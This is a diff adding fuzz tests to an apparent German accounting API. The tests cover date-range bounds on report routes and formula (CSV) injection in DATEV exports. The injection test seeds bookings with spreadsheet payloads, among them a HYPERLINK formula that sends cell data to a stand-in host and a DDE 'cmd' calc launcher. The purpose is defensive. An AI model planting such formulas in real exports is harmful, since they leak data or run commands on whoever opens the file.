@@ -9,9 +9,12 @@ FUZZ_SEED=<any> and FUZZ_CASES=<n> in the environment run other or more cases (e
 
 from __future__ import annotations
 
+import calendar
+import datetime as dt
 import json
 import os
 import random
+import time
 import urllib.parse
 from typing import Any
 
@@ -225,3 +228,129 @@ def test_given_mutated_statement_files_when_imported_then_never_a_server_error(
         body, headers = multipart(mutated, path.name)
         response = client.request("POST", "/v1/bank-transactions/import-file", body=body, headers=headers)
         _assert_handled(response, f"case {case}: {path.name} {mutated[:200]!r}")
+
+
+# ------------------------------------------------------------------------------------- date ranges
+# Every route with a date range, and what bounds its answer (README "API conventions", issue 14 item 2):
+# ("months", n) at most n months, else 400 RANGE_TOO_LARGE naming n; "fiscal_year" one fiscal year (DATEV);
+# "page" the span is free, the answer one page (limit <= 500); "journal" the span is free, the answer the
+# journal's entries in the range (the export; 303 to a download above 4 MB).
+RANGE_ROUTES: list[tuple[str, str, str, Any]] = [
+    ("/v1/reports?type=trial_balance", "startDate", "endDate", ("months", 120)),
+    ("/v1/reports?type=profit_and_loss", "startDate", "endDate", ("months", 120)),
+    ("/v1/reports?type=balance_sheet", "startDate", "endDate", ("months", 120)),
+    ("/v1/reports?type=vat_return", "startDate", "endDate", ("months", 120)),
+    ("/v1/reports/monthly-revenue-expenses", "startDate", "endDate", ("months", 120)),
+    ("/v1/reports/datev-export", "startDate", "endDate", "fiscal_year"),
+    ("/v1/journal", "startDate", "endDate", "page"),
+    ("/v1/accounts/1200/entries", "startDate", "endDate", "page"),
+    ("/v1/bank-transactions", "start_date", "end_date", "page"),
+    ("/v1/journal/export", "startDate", "endDate", "journal"),
+]
+DATE_PARAMS = {"startDate", "endDate", "start_date", "end_date"}
+
+
+def test_given_the_openapi_document_then_every_route_with_a_date_range_is_in_the_range_table(client: Any) -> None:
+    # Given every operation that takes a date range
+    doc = client.get("/v1/openapi.json").json()
+    ranged = {(path, tuple(sorted(p["name"] for p in op.get("parameters", []) if p["name"] in DATE_PARAMS)))
+              for path, ops in doc["paths"].items() for op in ops.values()
+              if any(p["name"] in DATE_PARAMS for p in op.get("parameters", []))}
+    # Then each is fuzzed below with its bound: a new range route cannot come without one
+    table = {(p.split("?")[0].replace("/1200/", "/{number}/"), tuple(sorted((s, e)))) for p, s, e, _ in RANGE_ROUTES}
+    assert ranged == table
+
+
+def _month_end(year: int, month: int) -> dt.date:
+    return dt.date(year, month, calendar.monthrange(year, month)[1])
+
+
+def _oversized(rng: random.Random, bound: Any) -> tuple[dt.date, dt.date]:
+    """A range just or far past the route's bound, in whole months (so that is the only thing wrong)."""
+    start = dt.date(rng.randrange(1, 9990), rng.randrange(1, 13), 1)
+    last = 9999 * 12 + 11  # month index of 9999-12
+    first = start.year * 12 + start.month - 1
+    months = bound[1] if isinstance(bound, tuple) else 12
+    span = rng.choice([months + 1, months + 2, rng.randrange(months + 1, months * 100)])
+    end_index = min(first + span - 1, last)
+    if end_index - first + 1 <= months:  # too close to 9999-12 for this span: start earlier
+        first = last - span + 1
+        start = dt.date(first // 12, first % 12 + 1, 1)
+        end_index = last
+    return start, _month_end(end_index // 12, end_index % 12 + 1)
+
+
+@pytest.mark.parametrize("path,start_name,end_name,bound", RANGE_ROUTES, ids=[r[0] for r in RANGE_ROUTES])
+def test_given_oversized_or_reversed_ranges_on_every_range_route_then_400_with_a_code_or_one_bounded_page(
+        client: Any, path: str, start_name: str, end_name: str, bound: Any) -> None:
+    acc = _bank_account(client)
+    client.post("/v1/bank-transactions", {"bank_account_id": acc["id"], "transactions": [VALID_ROW]})
+    for day in ("2026-01-15", "2026-02-15", "2026-03-15"):
+        client.post("/v1/bookings", {"booking_date": day, "description": "Büromaterial", "skip_duplicate_check": True,
+                                     "lines": [{"account_debit": "4930", "account_credit": "1200", "amount": "10.00"}]})
+    sep = "&" if "?" in path else "?"
+    rng = random.Random(f"{path}-ranges{SEED}")
+    for case in range(_cases(12)):
+        start, end = _oversized(rng, bound)
+        if rng.random() < 0.25:  # reversed, still whole months: refused on every route, whatever its bound
+            start, end = end.replace(day=1), _month_end(start.year, start.month)
+        limit = rng.choice([1, 2, 50, 500])
+        url = f"{path}{sep}{start_name}={start.isoformat()}&{end_name}={end.isoformat()}"
+        if bound == "page":
+            url += f"&limit={limit}"
+        began = time.perf_counter()
+        resp = client.get(url)
+        elapsed = time.perf_counter() - began
+        what = f"case {case}: {url}"
+        _assert_handled(resp, what)
+        assert elapsed < 5, (what, elapsed)  # no span makes work: the probe's 9000..9999 took 7 s
+        error = resp.json()["error"] if resp.status >= 400 else None
+        if start > end:
+            assert resp.status == 400 and error["code"] == "INVALID_INPUT", (what, resp.body[:300])
+            assert error["details"] == [{"field": start_name, "issue": f"must not be after {end_name}"}], what
+        elif isinstance(bound, tuple) or bound == "fiscal_year":
+            # Then a span past the bound is refused, the message naming the limit
+            assert resp.status == 400 and error["code"] == "RANGE_TOO_LARGE", (what, resp.body[:300])
+            limit_text = f"at most {bound[1]} months" if isinstance(bound, tuple) else "one fiscal year"
+            assert limit_text in error["message"], (what, error)
+        elif bound == "page":
+            # Then the answer is one page however wide the span, and it counts no more than there is
+            assert resp.status == 200, (what, resp.body[:300])
+            body = resp.json()
+            items = body.get("entries", body.get("transactions"))
+            assert len(items) <= limit and body["total"] <= 4, (what, body)
+        else:
+            # Then the export is the journal's entries in the range: never more than the whole journal
+            assert resp.status == 200, (what, resp.body[:300])
+            assert len(resp.body.splitlines()) <= 3, what
+
+
+# ------------------------------------------------------------------------------------- CSV injection
+FORMULA_STARTS = ["=", "+", "-", "@", "\t=", "\r+", " -", "  @", "\t", "＝", "－", "\u2212", "'=", ""]
+FORMULA_BODIES = ['HYPERLINK("http://x.example/?"&A1;"Beleg")', "cmd|' /C calc'!A0", "2+3", "SUM(A1:A9)", "1",
+                  "Büromaterial Müller", "x" * 70, "A1", ""]
+
+
+def test_given_seeded_formula_texts_when_booked_and_exported_to_datev_then_no_cell_runs_as_a_formula(
+        client: Any) -> None:
+    from ledgerlou.formats import datev
+
+    from tests.unit.test_datev_csv_injection import check_extf_cells
+
+    # Given bookings whose description and external reference start like formulas (seeded, 20 of them)
+    rng = random.Random(f"datev-formulas{SEED}")
+    for i in range(_cases(20)):
+        text = (rng.choice(FORMULA_STARTS) + rng.choice(FORMULA_BODIES)).strip() or "x"
+        ref = (rng.choice(FORMULA_STARTS) + rng.choice(FORMULA_BODIES))[:100] or None
+        resp = client.post("/v1/bookings", {"booking_date": f"2026-01-{i % 28 + 1:02d}", "description": text,
+                                            "external_reference": ref, "skip_duplicate_check": True,
+                                            "lines": [{"account_debit": "4930", "account_credit": "1200",
+                                                       "amount": f"{rng.randrange(1, 10**6)}.{rng.randrange(100):02d}",
+                                                       "tax_code": rng.choice(["VSt19", "VSt7"])}]})
+        _assert_handled(resp, f"booking {i}: {text!r} {ref!r}")
+    # When January is exported
+    resp = client.get("/v1/reports/datev-export?startDate=2026-01-01&endDate=2026-01-31")
+    assert resp.status == 200, resp.body[:300]
+    # Then every line meets DATEV's column rules and no cell of the file runs as a formula
+    rows = check_extf_cells(resp.body, datev.ENCODING)
+    assert rows
